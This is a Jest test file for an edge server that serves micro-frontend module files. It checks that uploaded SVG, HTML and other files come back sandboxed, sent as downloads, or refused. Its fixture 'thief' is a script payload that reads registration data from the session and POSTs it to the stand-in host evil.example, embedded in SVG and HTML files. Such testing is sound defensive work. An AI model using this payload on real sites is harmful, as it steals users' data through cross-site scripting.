import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { writeRelease } from 'shared/build/release';
import { until } from 'shared/testing/until';
import { releaseOf } from './test/changed-releases';
import { putLive } from './test/put-live';
import { type RunningEdge, startEdge } from './test/site';
import { type StubApi, sendJson, startStubApi } from './test/stub-api';

const root = join(__dirname, '../..');
const name = 'mfe-marketing';
/** Takes what the session of whoever opens it may read, and sends it elsewhere. */
const thief =
  'fetch("/api/vika-registrations").then((all)=>all.text()).then((text)=>fetch("//evil.example/",{method:"POST",body:text}))';
const drawing = `<svg xmlns="http://www.w3.org/2000/svg"><script>${thief}</script></svg>`;
const page = `<!doctype html><script>${thief}</script>`;

let directory: string;
let api: StubApi;
let edge: RunningEdge;
let version: string;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'module-files-'));
  api = await startStubApi((_asked, response) => sendJson(response, 200, { user: null }));
  const dist = join(directory, 'dist');
  cpSync(join(root, name, 'dist'), dist, { recursive: true });
  const add = (path: string, content: string) => {
    mkdirSync(dirname(join(dist, path)), { recursive: true });
    writeFileSync(join(dist, path), content);
  };
  for (const type of [
    'svg',
    'xml',
    'pdf',
    'txt',
    'json',
    'webmanifest',
    'mp3',
    'woff2',
    'ico',
    'js',
    'css',
  ]) {
    add(`client/opened.${type}`, drawing);
  }
  add('client/large/opened.SVG', drawing);
  for (const type of ['html', 'htm', 'shtml', 'xhtml', 'xht', 'xsl', 'mht', 'svgz', 'unknown']) {
    add(`client/refused.${type}`, page);
  }
  writeRelease(dist, '9.0.0', releaseOf(name));
  edge = await startEdge(directory, api.origin);
  version = await putLive(join(directory, 'releases'), dist);
  const shown = async () =>
    (await (await fetch(`${edge.origin}/registry.json`)).json()).remotes[name]?.version;
  await until(async () => (await shown()) === version);
});
afterAll(async () => {
  await edge.stop();
  api.close();
  await rm(directory, { recursive: true, force: true });
});

const open = (path: string, encoding = 'identity') =>
  fetch(`${edge.origin}/remotes/${name}/${version}/${path}`, { headers: { 'accept-encoding': encoding } });

describe('a file of a module that somebody opens', () => {
  test.each(['txt', 'json', 'webmanifest', 'mp3', 'woff2', 'ico'])('.%s runs nothing', async (type) => {
    const answer = await open(`client/opened.${type}`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
  });

  test.each(['opened.svg', 'large/opened.SVG', 'opened.xml', 'opened.pdf'])(
    '%s, which is a document, is sent for download',
    async (path) => {
      const answer = await open(`client/${path}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
      expect(answer.headers.get('content-disposition')).toBe('attachment');
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    },
  );

  test.each(['html', 'htm', 'shtml', 'xhtml', 'xht', 'xsl', 'mht', 'svgz', 'unknown'])(
    '.%s is not sent',
    async (type) => {
      expect((await open(`client/refused.${type}`)).status).toBe(404);
    },
  );

  test('what describes the release runs nothing', async () => {
    const answer = await open('release.json');
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  });

  test('scripts and styles of documents are sent as what they are', async () => {
    for (const [type, sent] of [
      ['js', 'text/javascript'],
      ['css', 'text/css'],
    ]) {
      const { headers } = await open(`client/opened.${type}`);
      expect(headers.get('content-type')).toBe(`${sent}; charset=utf-8`);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('content-disposition')).toBeNull();
    }
  });

  test('every file of the modules of this product is sent, and none but scripts and styles may run', async () => {
    const { files } = JSON.parse(readFileSync(join(root, name, 'dist/release.json'), 'utf8'));
    const asked = Object.keys(files).filter((path) => path.startsWith('client/') && !/\.(br|gz)$/.test(path));
    for (const path of asked) {
      const answer = await open(path);
      await answer.arrayBuffer();
      const policy = /\.(js|css)$/.test(path) ? null : "default-src 'none'; sandbox";
      expect([path, answer.status, answer.headers.get('content-security-policy')]).toEqual([
        path,
        200,
        policy,
      ]);
    }
  });
});

test('a picture of the site itself runs nothing either', async () => {
  const answer = await fetch(`${edge.origin}/favicon.svg`);
  expect(answer.status).toBe(200);
  expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
});
